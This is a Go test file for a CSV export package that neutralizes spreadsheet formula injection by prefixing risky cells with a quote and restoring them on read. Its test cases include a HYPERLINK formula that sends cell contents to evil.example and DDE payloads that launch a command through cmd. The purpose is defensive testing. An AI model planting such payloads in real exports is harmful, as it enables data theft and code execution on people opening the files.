package csvout

import (
	"bytes"
	"encoding/csv"
	"errors"
	"strings"
	"testing"
)

func TestNeutralize(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		{"empty", "", ""},
		{"plain text", "Ada Lovelace", "Ada Lovelace"},
		{"hyperlink formula", `=HYPERLINK("http://evil.example/?x="&A1,"Click")`, `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`},
		{"sum", "=1+2", "'=1+2"},
		{"dde with plus", "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"dde with minus", "-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"at function", "@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"leading tab", "\t=1+1", "'\t=1+1"},
		{"leading carriage return", "\r=1+1", "'\r=1+1"},
		{"phone number", "+12025550143", "'+12025550143"},
		{"plus five", "+5", "'+5"},
		{"negative integer stays", "-5", "-5"},
		{"negative decimal stays", "-12.50", "-12.50"},
		{"minus alone", "-", "'-"},
		{"minus dot", "-.5", "'-.5"},
		{"negative trailing point", "-5.", "'-5."},
		{"two points", "-1.2.3", "'-1.2.3"},
		{"negative with exponent", "-1e5", "'-1e5"},
		{"equals later is fine", "a=b", "a=b"},
		{"leading space then equals", " =1", " =1"},
		{"leading newline", "\n=1", "\n=1"},
		{"already quoted formula", "'=1", "''=1"},
		{"quotes then formula", "'''+1", "''''+1"},
		{"quote then text", "'hello", "'hello"},
		{"quote alone", "'", "'"},
		{"quote then negative", "'-5", "''-5"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			if got := Neutralize(tc.in); got != tc.want {
				t.Fatalf("Neutralize(%q) = %q, want %q", tc.in, got, tc.want)
			}
			if back := Restore(Neutralize(tc.in)); back != tc.in {
				t.Fatalf("Restore(Neutralize(%q)) = %q", tc.in, back)
			}
		})
	}
}

func TestRestore(t *testing.T) {
	tests := []struct{ in, want string }{
		{"'=1+2", "=1+2"},
		{"''=1", "'=1"},
		{"'+33612345678", "+33612345678"},
		{"'-5", "-5"},
		{"'hello", "'hello"},
		{"'", "'"},
		{"''", "''"},
		{"=1", "=1"},
		{"plain", "plain"},
		{"", ""},
	}
	for _, tc := range tests {
		if got := Restore(tc.in); got != tc.want {
			t.Errorf("Restore(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestWriter(t *testing.T) {
	var buf bytes.Buffer
	w := NewWriter(&buf, Options{})
	rows := [][]string{
		{"external_id", "notes", "phone", "duration"},
		{"A-1", `=HYPERLINK("http://x.example","y")`, "+12025550143", "-5"},
		{"A-2", "line one\nline two, \"quoted\"", "", "30"},
	}
	record := append([]string(nil), rows[1]...)
	for _, r := range rows {
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	if record[1] != rows[1][1] {
		t.Fatal("Write modified the caller's record")
	}
	want := "external_id,notes,phone,duration\r\n" +
		`A-1,"'=HYPERLINK(""http://x.example"",""y"")",'+12025550143,-5` + "\r\n" +
		"A-2,\"line one\r\nline two, \"\"quoted\"\"\",,30\r\n"
	if got := buf.String(); got != want {
		t.Fatalf("output:\n%q\nwant:\n%q", got, want)
	}

	// Read back with encoding/csv and Restore: the original cells return.
	got, err := csv.NewReader(strings.NewReader(buf.String())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, r := range got {
		for j, c := range r {
			c = strings.ReplaceAll(Restore(c), "\r\n", "\n")
			if c != rows[i][j] {
				t.Errorf("cell %d,%d read back %q, want %q", i, j, c, rows[i][j])
			}
		}
	}
}

func TestWriterBOM(t *testing.T) {
	var buf bytes.Buffer
	w := NewWriter(&buf, Options{BOM: true})
	for _, r := range [][]string{{"a"}, {"é"}} {
		if err := w.Write(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	if got, want := buf.String(), "\ufeffa\r\né\r\n"; got != want {
		t.Fatalf("got %q, want %q", got, want)
	}
}

type failingWriter struct{}

var errDisk = errors.New("disk full")

func (failingWriter) Write([]byte) (int, error) { return 0, errDisk }

func TestWriterErrors(t *testing.T) {
	w := NewWriter(failingWriter{}, Options{BOM: true})
	if err := w.Write([]string{"a"}); !errors.Is(err, errDisk) {
		t.Fatalf("Write with a failing BOM = %v, want disk full", err)
	}
	if err := w.Flush(); !errors.Is(err, errDisk) {
		t.Fatalf("Flush after a failure = %v", err)
	}

	w = NewWriter(failingWriter{}, Options{})
	if err := w.Write([]string{"a"}); err != nil {
		t.Fatalf("a buffered Write failed early: %v", err)
	}
	if err := w.Flush(); !errors.Is(err, errDisk) {
		t.Fatalf("Flush = %v, want disk full", err)
	}
	if err := w.Write([]string{"b"}); !errors.Is(err, errDisk) {
		t.Fatalf("Write after a failed Flush = %v", err)
	}
}

func FuzzNeutralize(f *testing.F) {
	for _, s := range []string{"", "=1", "-5", "-5.5", "'=1", "''", "+", "@", "\t", "\r\n", "abc", "'-", "-.", "-1."} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		n := Neutralize(s)
		if Restore(n) != s {
			t.Fatalf("Restore(Neutralize(%q)) = %q", s, Restore(n))
		}
		if n != "" && isTrigger(n[0]) && !isPlainNegative(n) {
			t.Fatalf("Neutralize(%q) = %q starts a formula", s, n)
		}
		if n != s && n != "'"+s {
			t.Fatalf("Neutralize(%q) = %q: more than a leading quote", s, n)
		}
	})
}
